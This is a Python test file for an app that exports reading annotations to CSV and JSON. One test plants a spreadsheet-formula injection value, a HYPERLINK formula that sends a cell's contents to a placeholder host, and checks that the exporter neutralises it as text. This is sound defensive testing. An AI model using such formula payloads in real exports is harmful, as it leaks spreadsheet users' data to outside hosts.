"""Annotations as CSV and JSON, read back with the csv and json modules."""

from __future__ import annotations

import csv
import dataclasses
import io
import json

from library.export.annotation_tables import COLUMNS, annotations_csv, annotations_json
from tests.library.export.articles import FERRY, WIND, Marked


def test_csv_has_one_row_per_annotation() -> None:
    text = annotations_csv([FERRY, WIND])
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == COLUMNS and len(rows) == 3
    first = rows[0]
    assert (first["id"], first["article_id"], first["paragraph"], first["start"], first["end"]) == ("3", "12", "2", "4", "31")
    assert first["quote"] == "zweimal täglich ablegen" and first["note"] == "Fahrplan prüfen:\nAbfahrt 8 Uhr?"
    assert first["tags"].split("; ") == ["Verkehr", "Nahverkehr Kiel"] and first["colour"] == "green"
    assert first["link"] == "lesesaal://article/12#p2" and first["detached"] == "false"
    assert rows[2]["detached"] == "true" and rows[2]["link"] == "lesesaal://article/12"
    assert rows[1]["title"] == FERRY.title and rows[1]["date"] == "2025-07-11T15:05"


def test_csv_without_annotations_is_its_header() -> None:
    assert list(csv.reader(io.StringIO(annotations_csv([WIND])))) == [list(COLUMNS)]


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_text() -> None:
    planted = Marked(9, 12, 1, 0, 30, '=HYPERLINK("http://example.invalid/?x="&A1;"Quelle")', note="-5 Grad am Morgen",
                     tags=("@wichtig",))
    hostile = dataclasses.replace(FERRY, title="+49 Fähren fallen aus", annotations=(planted,))
    row = next(csv.DictReader(io.StringIO(annotations_csv([hostile]), newline="")))
    assert row["quote"] == "'" + planted.quote and row["note"] == "'-5 Grad am Morgen"
    assert row["title"] == "'+49 Fähren fallen aus" and row["tags"] == "'@wichtig"
    assert row["paragraph"] == "1" and row["source"] == "Kieler Nachrichten"
    assert json.loads(annotations_json([hostile]))[0]["quote"] == planted.quote


def test_json_has_the_same_columns_with_types() -> None:
    rows = json.loads(annotations_json([FERRY, WIND]))
    assert [r["id"] for r in rows] == [3, 5, 6] and all(tuple(r) == COLUMNS for r in rows)
    assert rows[0]["tags"] == ["Verkehr", "Nahverkehr Kiel"] and rows[0]["detached"] is False
    assert rows[0]["prefix"] == "soll " and rows[0]["suffix"] == " und"
    assert json.loads(annotations_json([WIND])) == []
